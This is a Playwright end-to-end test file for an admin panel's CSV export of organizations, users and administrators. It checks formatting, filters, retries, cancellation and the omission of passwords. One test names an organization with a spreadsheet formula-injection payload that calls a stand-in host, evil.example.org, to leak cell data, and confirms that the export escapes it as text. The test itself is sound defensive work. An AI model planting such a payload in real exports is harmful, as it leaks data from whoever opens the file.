import { readFile } from 'node:fs/promises'
import type { Download, Page } from '@playwright/test'
import { createSeed } from '../../mocks/seed'
import { CSV_BOM, parseCsv } from '../../src/shared/bulk/csv'
import { adminsText } from '../../src/shared/i18n/admins'
import { exportText } from '../../src/shared/i18n/bulk'
import { expect, expectClosesBackTo, expectWellShown, test } from '../fixtures'
import { ExportPart } from '../pages/bulk.part'
import { OrganizationsListPage } from '../pages/organizations-list.page'
import { UsersPage } from '../pages/users.page'

const seed = createSeed()
const c = exportText.columns
const FILE_NAME = (what: string) => new RegExp(`^${what}-\\d{4}-\\d{2}-\\d{2}\\.csv$`)

/** Presses the export button and reads the file the browser saves. */
async function download(page: Page, exporter: ExportPart): Promise<{ file: Download; text: string; rows: string[][] }> {
  const [file] = await Promise.all([page.waitForEvent('download'), exporter.button().click()])
  const text = await readFile(await file.path(), 'utf8')
  return { file, text, rows: parseCsv(text) }
}

test.describe('CSV export', () => {
  test('organizations: every page of what the filters select, with the BOM, ; and CRLF, Russian headers and text, a name that would run as a formula kept as text; the dialog says what was saved', async ({
    page,
    loginAs,
    mock,
    request,
  }) => {
    // An organization named by a spammer so that a spreadsheet would run it: it starts like a number.
    const formula = '-1+HYPERLINK("https://evil.example.org/?leak="&A1;"x")'
    const one = seed.organizations[0]!
    const { token } = await mock.login('admin')
    const renamed = await request.patch(`/api/admins/organizations/edit/${one._id}`, {
      headers: { Authorization: `Bearer ${token}` },
      data: { name: formula },
    })
    expect(renamed.ok()).toBe(true)
    await loginAs('admin')
    const list = new OrganizationsListPage(page)
    const exporter = new ExportPart(page)
    await list.open()
    const { file, text, rows } = await download(page, exporter)
    expect(file.suggestedFilename()).toMatch(FILE_NAME('organizations'))
    expect(text.startsWith(CSV_BOM)).toBe(true)
    const headerLine = text.slice(1, text.indexOf('\r\n'))
    expect(headerLine.startsWith(`"${c.id}";"${c.name}";"${c.category}";"${c.subCategories}"`)).toBe(true)
    expect(headerLine).toContain(`"${c.ownerEmail}";"${c.status}";"${c.createdAt}";"${c.phone}"`)
    // 320 organizations over 100-a-page screens: all of them, one line each.
    expect(rows).toHaveLength(seed.organizations.length + 1)
    const row = rows.find((r) => r[0] === one._id)!
    // The cell starts with an apostrophe: the spreadsheet shows the text and runs nothing.
    expect(row[1]).toBe(`'${formula}`)
    expect(row[11]).toMatch(/^\d\d\.\d\d\.\d{4}$/)
    await expect(exporter.saved(file.suggestedFilename(), seed.organizations.length)).toBeVisible()
    await expectWellShown(page)
    // The dialog animates closed and the focus goes back to the export button.
    await expectClosesBackTo(exporter.dialog(), exporter.button(), () => exporter.close().click())
    await expect(exporter.dialog()).toHaveCount(0)

    // The banned filter: only the banned ones.
    await list.statusLabel('banned').click()
    await expect(page).toHaveURL(/status=banned/)
    const banned = await download(page, exporter)
    expect(banned.rows).toHaveLength(seed.organizations.filter((o) => !o.is_active).length + 1)
    expect(banned.rows.slice(1).every((r) => r[10] === exportText.status.banned)).toBe(true)
  })

  test('a page that fails twice is reported and nothing is saved; a new start saves the file; a cancel saves nothing', async ({
    page,
    loginAs,
    mock,
  }) => {
    await loginAs('admin')
    const list = new OrganizationsListPage(page)
    const exporter = new ExportPart(page)
    await list.open()
    const downloads: Download[] = []
    page.on('download', (file) => downloads.push(file))

    await mock.fault({ path: '/api/organizations', method: 'GET', status: 500, message: 'Search is unavailable', times: 2 })
    await exporter.button().click()
    await expect(exporter.dialog().getByRole('alert')).toHaveText(exportText.failed(1, 'Search is unavailable'))
    await expectWellShown(page)
    expect(downloads).toHaveLength(0)
    const [file] = await Promise.all([page.waitForEvent('download'), exporter.retry().click()])
    expect(file.suggestedFilename()).toMatch(FILE_NAME('organizations'))
    await exporter.close().click()

    await mock.fault({ path: '/api/organizations', method: 'GET', delay: 10_000 })
    await exporter.button().click()
    await expect(exporter.progressText()).toHaveText(exportText.starting)
    await expectWellShown(page)
    await exporter.cancel().click()
    await expect(exporter.dialog().getByText(exportText.cancelled)).toBeVisible()
    expect(downloads).toHaveLength(1)
    // Escape closes it once nothing runs, the cancel's outcome shown as it fades: the focus is back on the button.
    await expectClosesBackTo(exporter.dialog(), exporter.button(), () => page.keyboard.press('Escape'))
  })

  test('users and administrators: their columns, every entry; administrators without passwords', async ({ page, loginAs }) => {
    await loginAs('admin')
    const users = new UsersPage(page)
    const exporter = new ExportPart(page)
    await users.open()
    const usersFile = await download(page, exporter)
    expect(usersFile.file.suggestedFilename()).toMatch(FILE_NAME('users'))
    expect(usersFile.rows[0]).toEqual([c.id, c.userName, c.email, c.status, c.registeredAt])
    expect(usersFile.rows).toHaveLength(seed.users.length + 1)
  })

  test('administrators as root: every admin over three pages, rights as yes / no, no password column', async ({ page, loginAs }) => {
    await loginAs('root')
    await page.goto('/admins')
    const exporter = new ExportPart(page)
    const { file, rows, text } = await download(page, exporter)
    expect(file.suggestedFilename()).toMatch(FILE_NAME('admins'))
    expect(rows[0]!.slice(0, 4)).toEqual([c.id, c.userName, c.email, adminsText.rights.can_edit_countries_and_cities])
    expect(rows[0]).not.toContain(adminsText.columns.password)
    expect(rows).toHaveLength(seed.admins.length + 1)
    for (const admin of seed.admins.slice(0, 5)) expect(text).not.toContain(admin.password)
    await expect(exporter.saved(file.suggestedFilename(), seed.admins.length)).toBeVisible()
    await expectWellShown(page)
  })
})
